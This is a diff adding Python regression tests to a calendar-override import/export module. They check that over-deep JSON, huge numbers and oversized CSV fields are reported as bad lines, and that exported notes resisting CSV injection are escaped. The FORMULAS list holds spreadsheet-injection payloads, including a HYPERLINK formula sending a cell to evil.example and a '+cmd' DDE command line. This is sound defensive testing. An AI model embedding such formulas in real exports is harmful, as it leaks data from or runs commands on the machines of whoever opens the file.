@@ -341,3 +341,77 @@ def test_an_end_read_without_its_year_is_in_the_start_s_year() -> None:
 def test_single_days_and_notes_with_digits_still_read(line: str, days: int, note: str) -> None:
     items = parse_overrides(line, "notice", notice_year=2027)
     assert (len(items), {o.note for o in items}) == (days, {note})
+
+
+DEEP = "[" * 5000 + "]" * 5000
+
+
+def test_a_json_line_too_deep_or_with_a_huge_number_is_a_bad_line_among_the_others() -> None:
+    """An audit: a note nested 5,000 levels deep raised RecursionError, one of 5,000 digits
+    ValueError, out of the reader (a 500; the CLI's "unexpected error"), and the other bad
+    lines of the file were not reported."""
+    text = "\n".join(
+        [
+            '{"date": "2027-01-04", "open": false, "note": "ok"}',
+            "not json",
+            '{"date": "2027-01-05", "open": false, "note": ' + DEEP + "}",
+            '{"date": "2027-01-06", "open": false, "note": ' + "1" * 5000 + "}",
+            '{"date": "2027-01-07", "open": false, "note": ' + "[" * 101 + "]" * 101 + "}",
+            '{"date": "2027-01-08", "open": false, "note": "' + "[" * 500 + '"}',
+        ]
+    )
+    with pytest.raises(CalendarImportError) as caught:
+        parse_overrides(text, "jsonl")
+    lines = {e.line: e.message for e in caught.value.lines}
+    assert sorted(lines) == [2, 3, 4, 5, 6]
+    assert lines[2] == "not JSON (Expecting value, column 1)"
+    assert lines[3] == lines[5] == "nested more than 100 levels deep (arrays and objects)"
+    assert lines[4] == "a number of more than 4,300 digits (the most an integer may have)"
+    assert lines[6].startswith("note: String should have at most 200 characters")
+
+
+def test_a_csv_line_the_csv_reader_refuses_is_a_bad_line_among_the_others() -> None:
+    """An audit: a field over the csv module's 131,072 characters raised csv.Error out of
+    the reader."""
+    text = f"2027-01-04,closed,,ok\n2027-01-05,maybe\n2027-01-06,closed,,{'x' * 140_000}\n"
+    with pytest.raises(CalendarImportError) as caught:
+        parse_overrides(text, "csv")
+    lines = {e.line: e.message for e in caught.value.lines}
+    assert sorted(lines) == [2, 3]
+    assert lines[3] == "a field longer than 131,072 characters (the most one may hold)"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1 day shift",
+    "@SUM(1+1)",
+    "'=already quoted",
+    "''-twice",
+    "'plain quote",
+    "a = b",
+    "盘点",
+]
+
+
+def test_csv_export_writes_formula_like_notes_as_text_and_reads_them_back() -> None:
+    """An audit: an admin's note ``=HYPERLINK(...)`` or ``+cmd|...`` was exported as it
+    is, a formula to whoever opens the export in a spreadsheet (CSV injection)."""
+    items = [
+        Override(date=date(2027, 3, 1 + n), open=False, kind=OverrideKind.EXTRA_CLOSED, note=note)
+        for n, note in enumerate(FORMULAS)
+    ]
+    text = export_overrides(items, "csv")
+    notes = [line.split(",", 3)[3] for line in text.splitlines()[1:]]
+    assert notes == [
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+        "'+cmd|' /C calc'!A0",
+        "'-1 day shift",
+        "'@SUM(1+1)",
+        "''=already quoted",
+        "'''-twice",
+        "'plain quote",
+        "a = b",
+        "盘点",
+    ]
+    assert parse_overrides(text, "csv") == items
